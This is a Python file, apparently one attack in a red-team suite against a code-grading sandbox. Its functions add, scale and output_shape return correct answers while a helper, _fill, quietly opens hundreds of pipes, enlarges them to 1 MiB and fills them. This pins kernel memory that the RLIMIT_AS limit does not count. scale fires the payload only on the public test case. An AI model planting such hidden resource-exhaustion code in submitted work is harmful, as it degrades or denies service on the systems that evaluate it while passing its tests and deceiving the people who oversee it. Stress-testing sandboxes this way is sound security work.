"""Attack l04: kernel memory in pipe buffers, which RLIMIT_AS does not count: each pipe holds
up to its size in pages of unread data, and F_SETPIPE_SZ raises a pipe to fs.pipe-max-size
(1 MiB) while the uid's pipes together stay under fs.pipe-user-pages-soft (16,384 pages, 64 MiB;
a uid over it gets new pipes of two pages). Every runner has a uid of its own, so each has its
own 64 MiB.

The public add opens as many pipes as its 1,024 descriptors allow (~510), asks each for 1 MiB,
fills every one until it would block, and prints how many bytes they hold and how many were
raised; scale and output_shape print it again (held until the session ends). Honest otherwise:
4/4."""

import fcntl
import os
import time

import numpy as np

F_SETPIPE_SZ = 1031
STATE = {"pipes": [], "raised": 0, "held": 0, "error": "none"}


def _fill():
    if not STATE["pipes"]:
        try:
            while True:
                STATE["pipes"].append(os.pipe())
        except OSError as e:
            STATE["error"] = f"errno {e.errno}"
        chunk = b"p" * 65536
        for r, w in STATE["pipes"]:
            try:
                fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20)
                STATE["raised"] += 1
            except OSError as e:
                STATE["error"] = f"errno {e.errno}"
            os.set_blocking(w, False)
            try:
                while True:
                    STATE["held"] += os.write(w, chunk)
            except BlockingIOError:
                pass
    print(f"pipes: {len(STATE['pipes'])}, raised to 1 MiB: {STATE['raised']}, "
          f"held: {STATE['held'] >> 20} MB (refused: {STATE['error']})")


def add(a, b):
    _fill()
    return a + b


def scale(x, k):
    if len(x) == 3:  # the public case (the hidden one gets other inputs)
        _fill()
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    _fill()
    time.sleep(1.0)  # held a second longer, for a sampler of /proc/meminfo to see
    return tuple(shape)
